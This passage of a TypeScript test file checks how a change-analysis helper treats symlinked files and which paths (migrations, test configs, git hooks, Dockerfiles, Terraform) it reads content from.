    const linked = overlayChange({ path: 'src/alias.ts', baseText: 'a\n', text: '/* the target file */\nexport const x = 1;\n', disk: { ...edit('src/alias.ts', 'a', 'b'), newMode: '120000' } }).change!;
    assert.deepEqual([linked.newText, found(linked)], [undefined, {}]);
  });

  it('reads a source file only where a reader wants it (the quick answer for the rest agrees)', () => {
    const yes = ['db/migrations/20240101_x.ts', 'src/migration/1700-Drop.js', 'alembic/versions/a.py', 'jest.config.ts', 'vitest.config.mts', 'karma.conf.js', 'src/a.test.ts', 'test/unit/x.js', 'e2e/login.spec.tsx', '.simple-git-hooks.cjs', 'db/changelog/x.js', 'Dockerfile.ts'];
    const no = ['src/a.ts', 'src/mod000/file010.ts', 'lib/index.mjs', 'src/components/Chart.tsx', 'src/testing-library.ts'.replace('testing-', 'tool-')];
    for (const p of yes) assert.equal(readsContent(p), true, p);
    for (const p of no) assert.equal(readsContent(p), false, p);
  });

  it('reads no other file, and nothing without its texts', () => {
    assert.equal(readsContent('src/app.ts'), false);
    assert.equal(readsContent('README.md'), false);
    assert.equal(readsContent('infra/main.tf'), true);
    const noText = { ...edit('infra/main.tf', DB, undefined), oldText: undefined };
    assert.deepEqual(found(noText), {});
  });
});
